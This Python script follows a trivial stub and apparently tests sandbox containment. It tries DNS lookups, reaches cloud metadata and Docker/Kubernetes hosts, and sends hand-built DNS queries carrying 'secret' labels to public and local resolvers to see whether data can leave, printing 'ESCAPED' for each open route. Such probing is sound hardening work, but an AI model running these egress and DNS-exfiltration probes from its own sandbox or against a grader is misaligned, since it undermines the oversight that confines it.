# %%
import ctypes
import errno
import os
import socket
import struct
import time

answer = 42


def double(x):
    return 2 * x


libc = ctypes.CDLL(None, use_errno=True)


def door(name, action, seconds=1.5):
    """One way out: it must be shut, and at once."""
    began = time.monotonic()
    try:
        found = action()
    except (OSError, ValueError) as error:
        found = None
        print(name, type(error).__name__, error)
    if found is not None:
        print("ESCAPED:", name, found)
    if time.monotonic() - began > seconds:
        print("ESCAPED: (hangs)", name)


# %%
NAMES = ["example.com", "pypi.org", "huggingface.co", "metadata.google.internal", "host.docker.internal", "kubernetes.default"]
NAMES += ["c2VjcmV0." * 20 + "example.com", "_grader._tcp.local", "gateway", os.uname().nodename + ".example.com"]
for name in NAMES:
    door(f"getaddrinfo {name[:30]}", lambda: socket.getaddrinfo(name, 80))
    door(f"gethostbyname {name[:30]}", lambda: socket.gethostbyname(name))
for address in ("8.8.8.8", "169.254.169.254", "2606:4700:4700::1111"):
    door(f"reverse {address}", lambda: socket.getnameinfo((address, 80), socket.NI_NAMEREQD))


def ask(server, family=socket.AF_INET, kind=socket.SOCK_DGRAM, port=53):
    """A question by hand, with what could be a secret in the name."""
    question = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0)
    question += b"".join(bytes([len(part)]) + part for part in b"the-secret.example.com".split(b".")) + b"\0\0\1\0\1"
    with socket.socket(family, kind) as out:
        out.settimeout(1)
        out.connect((server, port))
        out.send(question if kind == socket.SOCK_DGRAM else struct.pack("!H", len(question)) + question)
        return out.recv(512)


# %%
for server in ("127.0.0.53", "127.0.0.1", "127.0.0.11", "8.8.8.8", "1.1.1.1", "10.0.2.3", "169.254.169.253", "192.168.65.7"):
    door(f"udp {server}", lambda: ask(server))
    door(f"tcp {server}", lambda: ask(server, kind=socket.SOCK_STREAM))
    door(f"tls {server}", lambda: ask(server, kind=socket.SOCK_STREAM, port=853))
for server in ("::1", "2001:4860:4860::8888", "fe80::1"):
    door(f"udp6 {server}", lambda: ask(server, socket.AF_INET6))
for path in ("/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf", "/run/systemd/resolve/io.systemd.Resolve",
             "/var/run/nscd/socket", "/run/dbus/system_bus_socket", "/run/avahi-daemon/socket"):  # fmt: skip
    if os.path.lexists(path):
        print("ESCAPED:", path)
print("TRIED")
